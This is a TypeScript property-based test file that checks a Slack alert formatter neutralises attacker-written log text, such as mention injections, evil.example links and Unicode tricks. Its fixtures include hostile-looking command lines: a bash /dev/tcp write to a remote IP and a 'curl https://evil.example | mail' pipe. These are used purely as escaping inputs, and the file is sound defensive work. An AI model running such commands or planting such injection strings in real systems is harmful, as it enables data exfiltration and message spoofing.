import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import fc from 'fast-check';
import { escapeSlack, type SlackMessage, slackDigest, slackMessage } from '../../src/text/slack.ts';
import { finding, findings, reason } from '../support/findings.ts';
import { refusal } from '../support/slack-server.ts';

const golden = (name: string): string => join(import.meta.dirname, '../golden/slack', name);
const pretty = { serializers: [(value: unknown) => `${JSON.stringify(value, undefined, 2)}\n`] };

test('the message of one finding', (t) => {
  t.assert.fileSnapshot(
    slackMessage(finding({ count: 12, first: Date.UTC(2026, 0, 2, 9, 58), last: Date.UTC(2026, 0, 2, 10, 11, 12) })),
    golden('finding.json'),
    pretty,
  );
});

test('the digest of a burst', (t) => {
  t.assert.fileSnapshot(slackDigest(findings(40), 3), golden('digest.json'), pretty);
});

/** What an attacker would write into a log, in pieces that also combine. */
const bait = fc.constantFrom(
  '<!channel>',
  '<!here|here>',
  '<@U024BE7LH>',
  '<#C024BE7LR|general>',
  '<https://evil.example|click>',
  'https://evil.example/x',
  'mailto:a@evil.example',
  'evil.example',
  '@here',
  '#general',
  '&lt;!channel&gt;',
  '&amp;lt;',
  ':fire:',
  '`*_~',
  '\n>',
  '\u202e',
  '\u2060',
  '\ud800',
  '😀',
);
const hostile = fc
  .array(fc.oneof(bait, bait, fc.string({ unit: 'binary' })), { maxLength: 12 })
  .map((parts) => parts.join(''));

const anyFinding = fc
  .record({
    title: fc.oneof(
      hostile,
      hostile.map((text) => text.repeat(500)),
    ),
    name: hostile,
    host: hostile,
    id: hostile,
    reasons: fc.array(
      fc.oneof(
        hostile,
        hostile.map((text) => text.repeat(100)),
      ),
      { maxLength: 20 },
    ),
    score: fc.double({ noNaN: true, noDefaultInfinity: true }),
    count: fc.nat(),
  })
  .map(({ title, name, host, id, reasons, score, count }) =>
    finding(
      { id, title, score, count, entity: { type: 'user', name }, reasons: reasons.map(reason) },
      { fields: { 'host.name': host } },
    ),
  );

/** Everything that Slack would read for markup, links and mentions: all texts but those of rich text elements. */
const parsed = ({ text, blocks }: SlackMessage): string[] => [
  text,
  ...blocks.flatMap((block) => (block.type === 'header' ? [block.text.text] : [])),
];
const richTexts = ({ blocks }: SlackMessage) =>
  blocks.flatMap((block) =>
    block.type === 'rich_text'
      ? block.elements.flatMap((element) =>
          element.type === 'rich_text_list' ? element.elements.flatMap((each) => each.elements) : element.elements,
        )
      : [],
  );

function check(message: SlackMessage): void {
  for (const text of parsed(message)) {
    assert.doesNotMatch(text, /[<>]/, 'no control sequence of Slack');
    assert.doesNotMatch(text, /&(?!(?:amp|lt|gt);)/, 'no bare ampersand');
    assert.doesNotMatch(text, /:\/\/|[@#]\w|mailto:[^\s\u2060]/, 'no address and no mention');
    assert.doesNotMatch(text.replace(/[\d]\.[\d]/g, ''), /\w\.\w/, 'no domain');
  }
  for (const element of richTexts(message)) {
    assert.deepEqual(
      Object.keys(element).filter((key) => !['type', 'text', 'style'].includes(key)),
      [],
    );
    assert.equal(element.type, 'text');
  }
  assert.deepEqual(
    [message.parse, message.link_names, message.mrkdwn, message.unfurl_links, message.unfurl_media],
    ['none', false, false, false, false],
  );
  assert.equal(JSON.stringify(message).isWellFormed(), true);
  assert.equal(refusal(message), undefined);
}

test('no log text mentions, links or breaks a limit of Slack, in one message', () => {
  fc.assert(fc.property(anyFinding, (one) => check(slackMessage(one))));
});

test('no log text mentions, links or breaks a limit of Slack, in a digest', () => {
  fc.assert(
    fc.property(fc.array(anyFinding, { minLength: 1, maxLength: 30 }), fc.integer({ min: 1, max: 20 }), (many, most) =>
      check(slackDigest(many, most)),
    ),
  );
});

test('the longest texts fit', () => {
  const long = '<&>"\u0000'.repeat(20_000);
  const one = finding({
    id: long,
    title: long,
    entity: { type: long, name: long },
    reasons: Array.from({ length: 500 }, () => reason(long)),
  });
  check(slackMessage(one));
  check(
    slackDigest(
      Array.from({ length: 1000 }, () => one),
      20,
    ),
  );
});

test('rich text shows the command as it was typed', () => {
  const title = 'echo "<a> & b" > /dev/tcp/203.0.113.9/443';
  assert.ok(richTexts(slackMessage(finding({ title }))).some(({ text }) => text === title));
});

test('escaped text reads the same to a person', () => {
  const text = 'curl https://evil.example | mail a@b <x> & y';
  const shown = escapeSlack(text)
    .replaceAll('\u2060', '')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
  assert.equal(shown, text);
});

test('a digest takes the best ranks, whatever their order, and counts the rest', () => {
  const texts = richTexts(slackDigest(findings(12).reverse(), 3)).map(({ text }) => text);
  assert.deepEqual(
    texts.filter((text) => text.startsWith('command-')),
    ['command-1 --flag', 'command-2 --flag', 'command-3 --flag'],
  );
  assert.equal(texts.at(-1), 'and 9 more');
});
